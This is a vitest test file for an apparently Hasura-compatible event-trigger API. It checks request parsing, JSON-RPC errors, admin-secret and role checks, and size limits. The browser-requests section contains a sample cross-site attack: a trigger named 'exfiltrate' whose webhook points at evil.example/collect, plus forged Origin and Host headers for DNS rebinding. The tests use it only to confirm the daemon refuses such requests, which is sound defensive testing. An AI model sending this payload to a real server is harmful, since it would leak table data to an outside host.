/**
 * The transports around the operations: /v1/query and /v1/metadata (bulk included), /rpc (JSON-RPC 2.0),
 * unknown paths, the admin secret, and the bounds on a request's work and answers.
 */
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { pino } from 'pino';
import { request } from 'undici';
import { buildApp } from '../../src/api/app.js';
import { createOperationContext } from '../../src/api/operations/context.js';
import { startApi, type ApiHarness } from '../support/apiHarness.js';
import { catalogSnapshot } from '../support/catalogSnapshot.js';

let api: ApiHarness;
const trigger = (name: string) => ({
  type: 'create_event_trigger',
  args: { name, table: 'items', webhook: 'http://127.0.0.1:9/', insert: { columns: '*' } },
});

beforeAll(async () => {
  api = await startApi({ bodyLimit: 64 * 1024 });
  await api.pool.query('create table items (id int primary key)');
});
afterAll(() => api?.close());

describe('/v1/query', () => {
  const malformed: Array<[string, string | object, string, RegExp]> = [
    ['malformed JSON', '{"type": "create_event_trigger", "args": {', '$', /invalid JSON/],
    ['an empty body', '', '$', /empty/],
    ['a body that is not an object', '[1, 2]', '$', /expected an object, got an array/],
    ['no type', { args: {} }, '$', /key "type" not found/],
    ['a type that is not a string', { type: 3, args: {} }, '$.type', /expected a string/],
    ['an unknown type', { type: 'drop_everything', args: {} }, '$.type', /unknown operation type "drop_everything"/],
    ['an unknown top-level key', { type: 'delete_event_trigger', args: { name: 'a' }, argz: 1 }, '$', /unexpected key "argz"/],
    ['a missing required arg', { type: 'delete_event_trigger', args: {} }, '$.args', /key "name" not found/],
    ['a wrong type', { type: 'redeliver_event', args: { event_id: 42 } }, '$.args.event_id', /expected a string, got a number/],
    ['a malformed UUID', { type: 'redeliver_event', args: { event_id: 'not-a-uuid' } }, '$.args.event_id', /UUID/],
  ];
  test.each(malformed)('refuses %s with 400 parse-failed', async (_what, body, path, error) => {
    const before = await catalogSnapshot(api.pool);
    const res = await api.post('/v1/query', body);
    expect(res.status).toBe(400);
    expect(res.json.code).toBe('parse-failed');
    expect(res.json.path).toBe(path);
    expect(res.json.error).toMatch(error);
    expect(await catalogSnapshot(api.pool)).toEqual(before);
  });

  test('any content type is read as JSON (curl -d sends form encoding)', async () => {
    const res = await api.post('/v1/query', JSON.stringify({ type: 'delete_event_trigger', args: { name: 'x' } }), {
      'content-type': 'application/x-www-form-urlencoded',
    });
    expect(res.json.code).toBe('not-exists');
  });

  test.each(['', ';', 'a/b/c', 'application/json; charset'])(
    'a malformed Content-Type (%j) is read as JSON too, not refused with 415',
    async (type) => {
      const body = JSON.stringify({ type: 'delete_event_trigger', args: { name: 'x' } });
      const hasura = await api.post('/v1/query', body, { 'content-type': type });
      expect(hasura.status).toBe(400);
      expect(hasura.json.code).toBe('not-exists');
      const rpc = await api.post('/rpc', JSON.stringify({ jsonrpc: '2.0', id: 1, method: 'delete_event_trigger', params: { name: 'x' } }), {
        'content-type': type,
      });
      expect(rpc.status).toBe(200);
      expect(rpc.json).toMatchObject({ jsonrpc: '2.0', id: 1, error: { code: -32001, data: { code: 'not-exists' } } });
    },
  );

  test('JSON nested deeper than the parser can follow is "nested too deeply", not a stack overflow', async () => {
    const res = await api.post(
      '/v1/query',
      `{"type":"invoke_event_trigger","args":{"name":"x","payload":${'['.repeat(20_000)}${']'.repeat(20_000)}}}`,
    );
    expect(res.status).toBe(400);
    expect(res.json).toEqual({ path: '$', error: 'invalid JSON: nested too deeply', code: 'parse-failed' });
  });

  test('a body over the limit is refused with 413', async () => {
    const res = await api.post('/v1/query', { type: 'invoke_event_trigger', args: { name: 'x', payload: 'y'.repeat(70_000) } });
    expect(res.status).toBe(413);
    expect(res.json).toMatchObject({ code: 'parse-failed', path: '$' });
  });

  test('bulk runs every operation and answers a list of results', async () => {
    const res = await api.post('/v1/query', { type: 'bulk', args: [trigger('bulk_a'), trigger('bulk_b')] });
    expect(res.status).toBe(200);
    expect(res.json).toEqual([{ message: 'success' }, { message: 'success' }]);
    const { rows } = await api.pool.query(`select name from event_triggers.event_triggers where name like 'bulk\\_%' order by 1`);
    expect(rows.map((r) => r.name)).toEqual(['bulk_a', 'bulk_b']);
    const cleanup = await api.post('/v1/query', {
      type: 'bulk',
      args: [
        { type: 'delete_event_trigger', args: { name: 'bulk_a' } },
        { type: 'pg_delete_event_trigger', args: { name: 'bulk_b', source: 'default' } },
      ],
    });
    expect(cleanup.status).toBe(200);
    expect(cleanup.json).toEqual([{ message: 'success' }, { message: 'success' }]);
    expect((await api.pool.query(`select name from event_triggers.event_triggers where name like 'bulk\\_%'`)).rows).toEqual([]);
  });

  test('bulk is all or nothing: one failure undoes the rest, with the failing path', async () => {
    const before = await catalogSnapshot(api.pool);
    const res = await api.post('/v1/query', {
      type: 'bulk',
      args: [trigger('bulk_c'), { type: 'delete_event_trigger', args: { name: 'does_not_exist' } }],
    });
    expect(res.status).toBe(400);
    expect(res.json).toEqual({
      path: '$.args[1].args',
      error: 'event trigger "does_not_exist" does not exist',
      code: 'not-exists',
    });
    expect(await catalogSnapshot(api.pool)).toEqual(before);
    const invalid = await api.post('/v1/query', { type: 'bulk', args: [trigger('bulk_d'), { type: 'nope', args: {} }] });
    expect(invalid.json).toMatchObject({ path: '$.args[1].type', code: 'parse-failed' });
    expect(await catalogSnapshot(api.pool)).toEqual(before);
  });

  test('unknown paths are 404 in the same error shape', async () => {
    const res = await request(`${api.url}/v2/query`, { method: 'POST', body: '{}' });
    expect(res.statusCode).toBe(404);
    expect(await res.body.json()).toMatchObject({ code: 'not-found', path: '$' });
  });

  test('invoke, redeliver and the log queries refuse what does not exist', async () => {
    // Hasura's wordings, at Hasura's path for what an operation refuses while it runs.
    const cases: Array<[string, unknown, string]> = [
      ['invoke_event_trigger', { name: 'ghost', payload: {} }, 'event trigger "ghost" does not exist'],
      ['redeliver_event', { event_id: '00000000-0000-4000-8000-000000000000' }, 'event not found'],
      ['get_event_logs', { name: 'ghost' }, 'event trigger "ghost" does not exist'],
      ['get_event_invocation_logs', { name: 'ghost' }, 'event trigger "ghost" does not exist'],
      [
        'pg_get_event_by_id',
        { event_id: '00000000-0000-4000-8000-000000000000', source: 'default' },
        'event id 00000000-0000-4000-8000-000000000000 does not exist',
      ],
    ];
    for (const [type, args, error] of cases) {
      const res = await api.query(type, args);
      expect(res.status, type).toBe(400);
      expect(res.json, type).toEqual({ code: 'not-exists', path: '$.args', error });
    }
    const missingPayload = await api.query('invoke_event_trigger', { name: 'ghost' });
    expect(missingPayload.json).toMatchObject({ code: 'parse-failed', path: '$.args', error: 'key "payload" not found' });
  });

  test('redeliver_event of an archived event (its trigger deleted) is not-exists and changes nothing', async () => {
    await api.query('create_event_trigger', { ...trigger('short_lived').args });
    const { event_id } = (await api.query('invoke_event_trigger', { name: 'short_lived', payload: {} })).json;
    await api.query('delete_event_trigger', { name: 'short_lived' });
    const before = await catalogSnapshot(api.pool);
    const res = await api.query('redeliver_event', { event_id });
    expect(res.status).toBe(400);
    expect(res.json).toEqual({ code: 'not-exists', path: '$.args', error: 'event not found: its event trigger was deleted' });
    expect(await catalogSnapshot(api.pool)).toEqual(before);
  });

  test('invoke_event_trigger: allowed when enable_manual is omitted, refused when false', async () => {
    await api.query('create_event_trigger', { ...trigger('manual_ok').args });
    expect((await api.query('invoke_event_trigger', { name: 'manual_ok', payload: { a: 1 } })).json.event_id).toMatch(/^[0-9a-f-]{36}$/);
    await api.query('create_event_trigger', { ...trigger('manual_off').args, enable_manual: false });
    const before = await catalogSnapshot(api.pool);
    const res = await api.query('invoke_event_trigger', { name: 'manual_off', payload: {} });
    expect(res.status).toBe(400);
    expect(res.json).toEqual({ code: 'not-supported', path: '$.args', error: 'manual mode is not enabled for event trigger "manual_off"' });
    expect(await catalogSnapshot(api.pool)).toEqual(before);
  });

  test('get_event_logs, get_event_invocation_logs and get_event_by_id show events and attempts', async () => {
    await api.query('create_event_trigger', { ...trigger('logged').args, update: { columns: '*' } });
    await api.pool.query('insert into items values (50755254975729665 % 1000000)');
    const logs = await api.query('get_event_logs', { name: 'logged', status: 'pending', limit: 10 });
    expect(logs.status).toBe(200);
    expect(logs.json).toHaveLength(1);
    const event = logs.json[0];
    expect(event).toMatchObject({
      trigger_name: 'logged',
      table_name: 'items',
      delivered: false,
      error: false,
      tries: 0,
      status: 'pending',
    });
    expect(event.payload.op).toBe('INSERT');
    expect((await api.query('get_event_logs', { name: 'logged', status: 'processed' })).json).toEqual([]);
    const byId = await api.query('get_event_by_id', { event_id: event.id });
    expect(byId.json.event.id).toBe(event.id);
    expect(byId.json.invocations).toEqual([]);
    expect((await api.query('get_event_invocation_logs', { name: 'logged' })).json).toEqual([]);
    const badStatus = await api.query('get_event_logs', { name: 'logged', status: 'done' });
    expect(badStatus.json).toMatchObject({ code: 'parse-failed', path: '$.args.status' });
  });
});

describe('/rpc (JSON-RPC 2.0)', () => {
  const rpc = (body: unknown) => api.post('/rpc', body);

  test('a call answers its result with its id', async () => {
    const res = await rpc({ jsonrpc: '2.0', id: 7, method: 'create_event_trigger', params: trigger('rpc_a').args });
    expect(res.json).toEqual({ jsonrpc: '2.0', id: 7, result: { message: 'success' } });
  });

  test("an operation's error carries Hasura's error object in error.data", async () => {
    const res = await rpc({ jsonrpc: '2.0', id: 'x', method: 'pg_delete_event_trigger', params: { name: 'ghost' } });
    expect(res.status).toBe(200);
    expect(res.json).toEqual({
      jsonrpc: '2.0',
      id: 'x',
      error: {
        code: -32001,
        message: 'event trigger "ghost" does not exist',
        data: { path: '$.args', error: 'event trigger "ghost" does not exist', code: 'not-exists' },
      },
    });
    const invalid = await rpc({ jsonrpc: '2.0', id: 1, method: 'delete_event_trigger', params: { name: 5 } });
    expect(invalid.json.error).toMatchObject({ code: -32602, data: { code: 'parse-failed', path: '$.args.name' } });
  });

  test('standard errors: parse error, invalid request, method not found', async () => {
    expect((await rpc('{"jsonrpc": "2.0", "method": ')).json).toMatchObject({ id: null, error: { code: -32700 } });
    expect((await rpc({ jsonrpc: '1.0', id: 1, method: 'x' })).json).toMatchObject({ id: 1, error: { code: -32600 } });
    expect((await rpc({ jsonrpc: '2.0', id: 1, method: 42 })).json).toMatchObject({ error: { code: -32600 } });
    expect((await rpc({ jsonrpc: '2.0', id: 1, method: 'launch_rockets' })).json).toMatchObject({ id: 1, error: { code: -32601 } });
    expect((await rpc([])).json).toMatchObject({ id: null, error: { code: -32600 } });
  });

  test('batches answer each call in order; notifications get no answer', async () => {
    const res = await rpc([
      { jsonrpc: '2.0', id: 1, method: 'create_event_trigger', params: trigger('rpc_b').args },
      { jsonrpc: '2.0', method: 'delete_event_trigger', params: { name: 'rpc_a' } },
      { jsonrpc: '2.0', id: 2, method: 'delete_event_trigger', params: { name: 'rpc_a' } },
      'not a call',
    ]);
    expect(res.json).toEqual([
      { jsonrpc: '2.0', id: 1, result: { message: 'success' } },
      expect.objectContaining({ id: 2, error: expect.objectContaining({ code: -32001 }) }),
      expect.objectContaining({ id: null, error: expect.objectContaining({ code: -32600 }) }),
    ]);
    const onlyNotification = await rpc({ jsonrpc: '2.0', method: 'delete_event_trigger', params: { name: 'rpc_b' } });
    expect(onlyNotification.status).toBe(204);
    expect((await api.query('delete_event_trigger', { name: 'rpc_b' })).json.code).toBe('not-exists');
  });
});

describe('X-Hasura-Role', () => {
  const denied = { path: '$.args', error: 'restricted access : admin only', code: 'access-denied' };

  test('a role other than admin is refused as in Hasura (400 access-denied at $.args), changing nothing', async () => {
    const before = await catalogSnapshot(api.pool);
    for (const path of ['/v1/query', '/v1/metadata']) {
      for (const role of ['user', 'Admin', '']) {
        const res = await api.post(path, trigger('role_denied'), { 'x-hasura-role': role });
        expect(res.status, `${path} ${role}`).toBe(400);
        expect(res.json, `${path} ${role}`).toEqual(denied);
      }
      const bulk = await api.post(path, { type: 'bulk', args: [trigger('role_bulk')] }, { 'x-hasura-role': 'user' });
      expect(bulk.status).toBe(400);
      expect(bulk.json).toEqual(denied);
      const read = await api.post(path, { type: 'get_inconsistent_metadata', args: {} }, { 'x-hasura-role': 'user' });
      expect(read.json).toEqual(denied);
    }
    expect(await catalogSnapshot(api.pool)).toEqual(before);
  });

  test('malformed args are parse-failed first, as Hasura parses the request before it authorises it', async () => {
    const res = await api.post('/v1/query', { type: 'delete_event_trigger', args: {} }, { 'x-hasura-role': 'user' });
    expect(res.json).toMatchObject({ code: 'parse-failed', path: '$.args' });
  });

  test('on /rpc the refusal is an application error carrying the same object', async () => {
    const res = await api.post(
      '/rpc',
      { jsonrpc: '2.0', id: 3, method: 'create_event_trigger', params: trigger('role_rpc').args },
      { 'x-hasura-role': 'user' },
    );
    expect(res.status).toBe(200);
    expect(res.json).toEqual({ jsonrpc: '2.0', id: 3, error: { code: -32006, message: denied.error, data: denied } });
    expect((await api.query('delete_event_trigger', { name: 'role_rpc' })).json.code).toBe('not-exists');
  });

  test('the admin role, or no role header, is allowed', async () => {
    const admin = await api.post('/v1/query', trigger('role_admin'), { 'x-hasura-role': 'admin' });
    expect(admin.json).toEqual({ message: 'success' });
    const none = await api.post('/v1/metadata', { type: 'pg_delete_event_trigger', args: { name: 'role_admin' } });
    expect(none.json).toEqual({ message: 'success' });
  });
});

describe('admin secret', () => {
  let secured: ApiHarness;
  beforeAll(async () => {
    secured = await startApi({ adminSecret: 's3cr3t' });
  });
  afterAll(() => secured?.close());
  const op = { type: 'delete_event_trigger', args: { name: 'x' } };

  test('missing or wrong secret: 401 access-denied, on every route', async () => {
    for (const path of ['/v1/query', '/v1/metadata', '/rpc', '/nowhere']) {
      const missing = await secured.post(path, op);
      expect(missing.status, path).toBe(401);
      expect(missing.json).toMatchObject({ code: 'access-denied', path: '$' });
      const wrong = await secured.post(path, op, { 'x-hasura-admin-secret': 's3cr3T' });
      expect(wrong.status, path).toBe(401);
    }
  });

  test('the secret in X-Hasura-Admin-Secret or as a Bearer token is accepted; X-Hasura-Role admin too', async () => {
    const header = await secured.post('/v1/query', op, { 'x-hasura-admin-secret': 's3cr3t', 'x-hasura-role': 'admin' });
    expect(header.json.code).toBe('not-exists');
    const bearer = await secured.post('/v1/query', op, { authorization: 'Bearer s3cr3t' });
    expect(bearer.json.code).toBe('not-exists');
  });

  test('with the secret, another role is still refused (400); without it, the secret is asked for first (401)', async () => {
    const withSecret = await secured.post('/v1/query', op, { 'x-hasura-admin-secret': 's3cr3t', 'x-hasura-role': 'user' });
    expect(withSecret.status).toBe(400);
    expect(withSecret.json).toEqual({ path: '$.args', error: 'restricted access : admin only', code: 'access-denied' });
    const withoutSecret = await secured.post('/v1/query', op, { 'x-hasura-role': 'user' });
    expect(withoutSecret.status).toBe(401);
  });

  test('/healthz needs no secret', async () => {
    const res = await request(`${secured.url}/healthz`);
    expect(res.statusCode).toBe(200);
    expect(await res.body.text()).toBe('OK');
  });
});

describe('bounded requests and answers', () => {
  let wide: ApiHarness;
  beforeAll(async () => {
    wide = await startApi();
    await wide.pool.query('create table items (id int primary key)');
  });
  afterAll(() => wide?.close());

  test('a page holds at most 1,000 rows: a larger limit is parse-failed, saying to page with offset', async () => {
    await wide.query('create_event_trigger', { ...trigger('paged').args });
    const cases: Array<[string, Record<string, unknown>, string]> = [
      ['get_event_logs', { name: 'paged', limit: 1001 }, '$.args.limit'],
      ['get_event_invocation_logs', { name: 'paged', limit: 100_000 }, '$.args.limit'],
      ['get_event_by_id', { event_id: '00000000-0000-4000-8000-000000000000', invocation_log_limit: 1001 }, '$.args.invocation_log_limit'],
    ];
    for (const [type, args, path] of cases) {
      const res = await wide.query(type, args);
      expect(res.status, type).toBe(400);
      expect(res.json, type).toEqual({ path, error: 'must be at most 1000: page through more with offset', code: 'parse-failed' });
    }
    expect((await wide.query('get_event_logs', { name: 'paged', limit: 1000 })).status).toBe(200);
    expect((await wide.query('get_event_invocation_logs', { name: 'paged', limit: 1000, offset: 5 })).status).toBe(200);
  });

  test('bulk holds at most 1,000 operations; more is refused before any runs', async () => {
    const before = await catalogSnapshot(wide.pool);
    const read = { type: 'get_inconsistent_metadata', args: {} };
    const tooMany = await wide.post('/v1/query', { type: 'bulk', args: [trigger('bulk_big'), ...Array(1000).fill(read)] });
    expect(tooMany.status).toBe(400);
    expect(tooMany.json).toEqual({
      path: '$.args',
      error: 'a bulk request holds at most 1000 operations, got 1001: split it',
      code: 'parse-failed',
    });
    expect(await catalogSnapshot(wide.pool)).toEqual(before);
    const most = await wide.post('/v1/query', { type: 'bulk', args: Array(1000).fill(read) });
    expect(most.status).toBe(200);
    expect(most.json).toHaveLength(1000);
  });

  test('a JSON-RPC batch holds at most 1,000 calls; more is one Invalid Request and no call runs', async () => {
    const before = await catalogSnapshot(wide.pool);
    const calls = [
      { jsonrpc: '2.0', method: 'create_event_trigger', params: trigger('rpc_big').args },
      ...Array.from({ length: 1000 }, (_, i) => ({ jsonrpc: '2.0', id: i, method: 'get_inconsistent_metadata' })),
    ];
    const res = await wide.post('/rpc', calls);
    expect(res.status).toBe(200);
    expect(res.json).toEqual({
      jsonrpc: '2.0',
      id: null,
      error: { code: -32600, message: 'Invalid Request: a batch holds at most 1000 calls, got 1001; split it' },
    });
    expect(await catalogSnapshot(wide.pool)).toEqual(before);
    const most = await wide.post('/rpc', calls.slice(1));
    expect(most.json).toHaveLength(1000);
  });

  describe('API_ANSWER_LIMIT', () => {
    const LIMIT = 100_000;
    let post: (path: string, body: unknown) => Promise<{ status: number; text: string; json: any }>;
    let close: () => Promise<void>;
    let bigEvent: string;
    let smallEvent: string;

    beforeAll(async () => {
      const log = pino({ level: 'silent' });
      const ctx = createOperationContext({
        pool: wide.pool,
        schema: wide.schema,
        sourceName: 'default',
        heartbeatTimeoutMs: 30_000,
        answerLimit: LIMIT,
        log,
      });
      const app = await buildApp({
        ctx,
        adminSecret: undefined,
        bodyLimit: 1_048_576,
        version: 'test',
        health: () => Promise.resolve({ ok: true }),
        log,
      });
      const url = await app.listen({ host: '127.0.0.1', port: 0 });
      close = () => app.close();
      post = async (path, body) => {
        const res = await request(`${url}${path}`, { method: 'POST', body: JSON.stringify(body) });
        const text = await res.body.text();
        return { status: res.statusCode, text, json: JSON.parse(text) };
      };
      await wide.query('create_event_trigger', { ...trigger('big').args });
      // 30 events of ~10 kB (~300 kB in all); the newest has 30 attempts whose response bodies are ~10 kB.
      await wide.pool.query(`
        insert into ${wide.schema}.event_log (schema_name, table_name, trigger_name, payload, created_at)
        select 'public', 'items', 'big', jsonb_build_object('op', 'MANUAL', 'data', jsonb_build_object('old', null, 'new', repeat('x', 10000))),
               now() - make_interval(secs => i)
        from generate_series(1, 30) i`);
      const { rows } = await wide.pool.query(
        `select id from ${wide.schema}.event_log where trigger_name = 'big' order by created_at desc limit 1`,
      );
      smallEvent = rows[0].id;
      await wide.pool.query(
        `insert into ${wide.schema}.event_invocation_logs (event_id, trigger_name, status, request, response, created_at)
         select $1, 'big', 200, '{"payload": {}}', jsonb_build_object('type', 'webhook_response', 'data', jsonb_build_object('body', repeat('y', 10000))),
                now() - make_interval(secs => i)
         from generate_series(1, 30) i`,
        [smallEvent],
      );
      const huge = await wide.pool.query(
        `insert into ${wide.schema}.event_log (schema_name, table_name, trigger_name, payload, created_at)
         values ('public', 'items', 'big', jsonb_build_object('op', 'MANUAL', 'data', jsonb_build_object('old', null, 'new', repeat('z', $1::int))), now() - interval '1 day')
         returning id`,
        [LIMIT],
      );
      bigEvent = huge.rows[0].id;
    });
    afterAll(() => close?.());

    test('a page that fits is answered whole, within the limit', async () => {
      const res = await post('/v1/query', { type: 'get_event_logs', args: { name: 'big', limit: 9 } });
      expect(res.status).toBe(200);
      expect(res.json).toHaveLength(9);
      expect(Buffer.byteLength(res.text)).toBeLessThanOrEqual(LIMIT);
    });

    test('a page that does not fit is refused (not a 5xx, not a short page), saying how many rows fit', async () => {
      const res = await post('/v1/query', { type: 'get_event_logs', args: { name: 'big', limit: 30 } });
      expect(res.status).toBe(400);
      expect(res.json).toMatchObject({ path: '$.args', code: 'not-supported' });
      const fit = Number(/the first (\d+) of these 30 events fit/.exec(res.json.error)?.[1]);
      expect(fit).toBeGreaterThanOrEqual(9);
      expect(fit).toBeLessThan(10);
      expect(res.json.error).toContain('API_ANSWER_LIMIT (100000 bytes)');
      const asked = await post('/v1/query', { type: 'get_event_logs', args: { name: 'big', limit: fit } });
      expect(asked.status).toBe(200);
      expect(asked.json).toHaveLength(fit);
      const logs = await post('/v1/query', { type: 'get_event_invocation_logs', args: { name: 'big', limit: 1000 } });
      expect(logs.json).toMatchObject({ path: '$.args', code: 'not-supported' });
      expect(logs.json.error).toMatch(/the first \d+ of these 30 invocation logs fit/);
    });

    test('get_event_by_id: invocations that do not fit, and an event that alone does not', async () => {
      const res = await post('/v1/query', { type: 'get_event_by_id', args: { event_id: smallEvent, invocation_log_limit: 30 } });
      expect(res.json).toMatchObject({ path: '$.args', code: 'not-supported' });
      const fewer = await post('/v1/query', { type: 'get_event_by_id', args: { event_id: smallEvent, invocation_log_limit: 5 } });
      expect(fewer.status).toBe(200);
      expect(fewer.json.invocations).toHaveLength(5);
      const alone = await post('/v1/query', { type: 'get_event_by_id', args: { event_id: bigEvent } });
      expect(alone.status).toBe(400);
      expect(alone.json).toEqual({
        path: '$.args',
        code: 'not-supported',
        error: `event "${bigEvent}" alone is larger than API_ANSWER_LIMIT (100000 bytes): raise API_ANSWER_LIMIT, or read it from the event_log table with SQL`,
      });
    });

    test('the operations of one request share the limit: bulk and JSON-RPC batches', async () => {
      const page = { type: 'get_event_logs', args: { name: 'big', limit: 6 } };
      const bulk = await post('/v1/query', { type: 'bulk', args: [page, page] });
      expect(bulk.status).toBe(400);
      expect(bulk.json).toMatchObject({ path: '$.args[1].args', code: 'not-supported' });
      expect(bulk.json.error).toContain('shared with the answers before it in this request');
      const batch = await post(
        '/rpc',
        [1, 2].map((id) => ({ jsonrpc: '2.0', id, method: page.type, params: page.args })),
      );
      expect(batch.status).toBe(200);
      expect(batch.json[0].result).toHaveLength(6);
      expect(batch.json[1].error).toMatchObject({ code: -32004, data: { code: 'not-supported', path: '$.args' } });
      expect(Buffer.byteLength(batch.text)).toBeLessThanOrEqual(LIMIT + 1000);
      // Each request has its own: the same page alone, twice, is fine.
      for (let i = 0; i < 2; i++) expect((await post('/v1/query', page)).status).toBe(200);
    });
  });
});

describe('requests from web browsers', () => {
  /** What a page on another site makes a browser send: a simple POST (no preflight), text/plain. */
  const attack = {
    type: 'create_event_trigger',
    args: { name: 'exfiltrate', table: 'items', webhook: 'http://evil.example/collect', insert: { columns: '*' } },
  };
  const send = async (
    base: string,
    path: string,
    headers: Record<string, string>,
    body: unknown = attack,
    method: 'GET' | 'POST' = 'POST',
  ) => {
    const res = await request(`${base}${path}`, {
      method,
      headers: { ...(method === 'POST' ? { 'content-type': 'text/plain;charset=UTF-8' } : {}), ...headers },
      ...(method === 'POST' ? { body: JSON.stringify(body) } : {}),
    });
    const text = await res.body.text();
    const json = res.headers['content-type']?.toString().startsWith('application/json') ? JSON.parse(text) : undefined;
    return { status: res.statusCode, text, json };
  };
  const port = () => new URL(api.url).port;
  const expectRefused = (res: { status: number; json: any }, error: RegExp) => {
    expect(res.status).toBe(403);
    expect(Object.keys(res.json).sort()).toEqual(['code', 'error', 'path']);
    expect(res.json).toMatchObject({ path: '$', code: 'access-denied' });
    expect(res.json.error).toMatch(error);
  };

  test('a cross-site page cannot create a trigger, on any route, however it sends', async () => {
    const before = await catalogSnapshot(api.pool);
    const browsers: Array<[string, Record<string, string>, RegExp]> = [
      [
        'current browsers',
        { origin: 'http://evil.example', 'sec-fetch-site': 'cross-site', 'sec-fetch-mode': 'no-cors' },
        /other origins are refused \(Origin "http:\/\/evil.example"\)/,
      ],
      ['browsers without Sec-Fetch-*', { origin: 'http://evil.example' }, /other origins/],
      ['a sandboxed frame or a file: page', { origin: 'null' }, /other origins/],
      ['another port of this machine', { origin: 'http://127.0.0.1:3000', 'sec-fetch-site': 'same-site' }, /other origins/],
      ['a same-site page without Origin', { 'sec-fetch-site': 'same-site' }, /other sites are refused \(Sec-Fetch-Site "same-site"\)/],
      ['a cross-site page without Origin', { 'sec-fetch-site': 'cross-site' }, /other sites/],
    ];
    for (const [who, headers, error] of browsers) {
      for (const path of ['/v1/metadata', '/v1/query', '/rpc', '/v2/anything']) {
        const body = path === '/rpc' ? { jsonrpc: '2.0', id: 1, method: attack.type, params: attack.args } : attack;
        expectRefused(await send(api.url, path, headers, body), error);
      }
      // Answers that cross-origin pages could read (no-cors GETs carry no Origin, but Sec-Fetch-Site).
      if (headers['sec-fetch-site']) expectRefused(await send(api.url, '/v1/version', headers, undefined, 'GET'), error);
      expect(await catalogSnapshot(api.pool), who).toEqual(before);
    }
  });

  test('DNS rebinding: a page whose name now points at 127.0.0.1 is same-origin to the browser, but its Host gives it away', async () => {
    const host = `rebound.evil.example:${port()}`;
    const headers = { host, origin: `http://${host}`, 'sec-fetch-site': 'same-origin' };
    expectRefused(
      await send(api.url, '/v1/metadata', headers),
      /requests addressed to "rebound.evil.example:\d+" are refused: without ADMIN_SECRET/,
    );
    expectRefused(await send(api.url, '/v1/version', { host }, undefined, 'GET'), /loopback/);
    expectRefused(await send(api.url, '/v1/query', { host: 'rebound.evil.example@127.0.0.1' }), /loopback/);
    expect((await wideOpen('/v1/query', { host: `localhost:${port()}` })).status).toBe(400);
  });

  /** A harmless request: a 400 not-exists shows it was let through to the operation. */
  const wideOpen = (path: string, headers: Record<string, string>) =>
    send(api.url, path, headers, { type: 'delete_event_trigger', args: { name: 'nothing_here' } });

  test('curl, CLIs and servers (no Origin, no Sec-Fetch-*), loopback names, and the page typed in the address bar still work', async () => {
    const allowed: Array<Record<string, string>> = [
      {},
      { host: `localhost:${port()}` },
      { host: 'LOCALHOST' },
      { host: `127.0.0.2:${port()}` },
      { host: '[::1]:9999' },
      { host: 'pget.localhost' },
      { origin: `http://127.0.0.1:${port()}`, 'sec-fetch-site': 'same-origin' },
      { 'sec-fetch-site': 'none' },
    ];
    for (const headers of allowed) {
      const res = await wideOpen('/v1/query', headers);
      expect(res.status, JSON.stringify(headers)).toBe(400);
      expect(res.json.code).toBe('not-exists');
    }
    // /healthz answers probes whatever they send.
    const health = await send(api.url, '/healthz', { host: 'probe.internal', origin: 'http://evil.example' }, undefined, 'GET');
    expect(health).toMatchObject({ status: 200, text: 'OK' });
  });

  test('with ADMIN_SECRET, any Host is fine (a proxy may forward its own), but a cross-site page is refused even with the secret', async () => {
    const secured = await startApi({ adminSecret: 's3cr3t' });
    try {
      const secret = { 'x-hasura-admin-secret': 's3cr3t' };
      const op = { type: 'delete_event_trigger', args: { name: 'nothing_here' } };
      expect((await send(secured.url, '/v1/query', { ...secret, host: 'events.example.com' }, op)).json.code).toBe('not-exists');
      // Behind a TLS proxy: the page is https, the daemon http; host and port decide.
      const proxied = { ...secret, host: 'events.example.com', origin: 'https://events.example.com', 'sec-fetch-site': 'same-origin' };
      expect((await send(secured.url, '/v1/query', proxied, op)).json.code).toBe('not-exists');
      expectRefused(await send(secured.url, '/v1/query', { ...secret, origin: 'http://evil.example' }, op), /other origins/);
      expectRefused(await send(secured.url, '/v1/query', { origin: 'http://evil.example' }, op), /other origins/);
    } finally {
      await secured.close();
    }
  });

  test('each refusal is logged with the path, the address and the reason', async () => {
    const lines: string[] = [];
    const log = pino({ level: 'info' }, { write: (line: string) => void lines.push(line) });
    const ctx = createOperationContext({ pool: api.pool, schema: api.schema, sourceName: 'default', heartbeatTimeoutMs: 30_000, log });
    const app = await buildApp({
      ctx,
      adminSecret: undefined,
      host: '127.0.0.1',
      bodyLimit: 65_536,
      version: 'test',
      health: () => Promise.resolve({ ok: true }),
      log,
    });
    const url = await app.listen({ host: '127.0.0.1', port: 0 });
    try {
      expectRefused(await send(url, '/v1/metadata', { origin: 'http://evil.example' }), /other origins/);
      expectRefused(await send(url, '/rpc', { host: 'evil.example' }), /loopback/);
      const refusals = lines.map((l) => JSON.parse(l)).filter((e) => e.msg === 'request refused');
      expect(refusals).toEqual([
        expect.objectContaining({
          level: 40,
          path: '/v1/metadata',
          ip: '127.0.0.1',
          reason: 'cross-origin request (Origin "http://evil.example")',
        }),
        expect.objectContaining({
          level: 40,
          path: '/rpc',
          ip: '127.0.0.1',
          reason: 'Host "evil.example" is not a loopback name or address',
        }),
      ]);
    } finally {
      await app.close();
    }
  });
});
